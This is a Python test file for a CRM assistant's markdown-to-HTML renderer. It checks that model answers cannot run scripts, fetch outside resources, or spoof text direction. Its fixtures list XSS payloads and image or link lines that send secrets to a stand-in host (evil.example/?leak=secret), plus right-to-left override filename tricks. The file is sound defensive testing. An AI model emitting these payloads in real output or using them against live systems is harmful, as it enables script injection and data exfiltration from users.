"""Answers as HTML: nothing runs, nothing is fetched, citations open records."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from crm_app.assistant.markdown import escape, is_internal, render
from crm_app.assistant.outcomes import Source
from crm_app.core.direction import apart


class Elements(HTMLParser):
    """The elements and attributes of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


SOURCES = [Source(kind="deal", id="1", title='Deal "A" <b>', href="/deals/1")]


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=https://evil.example/?leak=1>",
        "![x](https://evil.example/?leak=secret)",
        "![x][r]\n\n[r]: https://evil.example/?leak=secret",
        "[click](https://evil.example/?leak=secret)",
        "[click](javascript:alert(1))",
        "[click](//evil.example/x)",
        "[click](/\\evil.example)",
        "[click](data:text/html,x)",
        "<https://evil.example/?leak=secret>",
        "<iframe srcdoc='<script>x</script>'></iframe>",
        '<a href="https://evil.example">x</a>',
        "<style>@import url(https://evil.example)</style>",
        "<svg onload=alert(1)>",
        '[1](https://evil.example "t")',
        '[x](/deals/1"onmouseover=alert)',
    ],
)
def test_nothing_in_an_answer_runs_or_fetches(attack: str) -> None:
    seen = Elements()
    seen.feed(render(attack, SOURCES))
    assert seen.tags <= {"p", "a", "strong", "em"}, seen.tags
    for name, value in seen.attributes:
        assert name in ("href", "class", "title", "data-citation")
        assert name != "href" or re.fullmatch(r"/(deals/1(%22onmouseover=alert)?|%5Cevil.example)", value or "")


def test_citations_become_links_to_the_record() -> None:
    rendered = render("Won 5 [1], not [7].", SOURCES)
    assert 'href="/deals/1"' in rendered
    assert 'data-citation="1"' in rendered
    assert "&lt;b&gt;" in rendered
    assert "[7]" in rendered


def test_marks_of_records_stay_text() -> None:
    rendered = render(r"\[1\] and \*not bold\*", SOURCES)
    assert "citation" not in rendered
    assert "<strong>" not in rendered
    assert "<em>" not in rendered


def test_ordinary_markdown() -> None:
    rendered = render("# Title\n\n- **one**\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> quote", SOURCES)
    for part in ("<h3>Title</h3>", "<strong>one</strong>", "<table>", "<blockquote>"):
        assert part in rendered
    assert "<h1>" not in rendered


def test_internal_links_stay() -> None:
    assert 'href="/deals?status=won"' in render("[list](/deals?status=won)", [])


@pytest.mark.parametrize(
    ("href", "internal"),
    [
        ("/deals/1", True),
        ("/deals?a=b&c=d", True),
        ("//evil", False),
        ("/\\evil", False),
        ("https://x", False),
        ("/a/../b", False),
        ("/a\n", False),
    ],
)
def test_what_is_internal(href: str, internal: bool) -> None:
    assert is_internal(href) is internal


def test_length_is_bounded() -> None:
    assert len(render("x" * 1_000_000, [])) < 50_000


def _read(rendered: str) -> str:
    """What a person reads of a piece of HTML, spaces as one."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", rendered)).split())


_MARKS = st.text("0123456789.)-+=*_#|<>&;lt~ a:[]()!`\\\"'@", min_size=1, max_size=15)


@given(st.one_of(_MARKS, st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30)))
@example("johnny_doering@example.com")
@example("#12")
@example("evil\u202etxt.exe Ltd")
@example("חברת הדגמה (Demo) 2026")
@example("1. R&D ~~old~~ &amp; <b>")
def test_what_the_product_escapes_reads_as_it_was_written(value: str) -> None:
    plain = apart(" ".join(value.split()))  # but for what would turn the line round
    if not plain:
        return
    escaped = escape(value)
    for around in ("{}", "- {}", "> {}", "**{}** (“{}”)", "| a | b |\n| - | - |\n| {} | 1 |"):
        expected = plain if "a | b" not in around else f"a b {plain} 1"
        expected = f"{plain} (“{plain}”)" if "**" in around else expected
        assert _read(render(around.replace("{}", escaped), [])) == _read(html.escape(expected)), around


def test_nothing_in_an_answer_turns_its_line_round() -> None:
    sources = [Source(kind="deal", id="1", title="a\u202eb", href="/deals/1")]
    rendered = render("evil\u202etxt.exe \u202d[1]\u202c", sources)
    assert not re.search("[\u202a-\u202e]", rendered)


def test_entities_and_escapes_of_a_model_read_as_their_characters() -> None:
    assert _read(render(r"R&amp;D \& johnny\_doering \#12 5 \< 6", SOURCES)) == "R&D & johnny_doering #12 5 < 6"
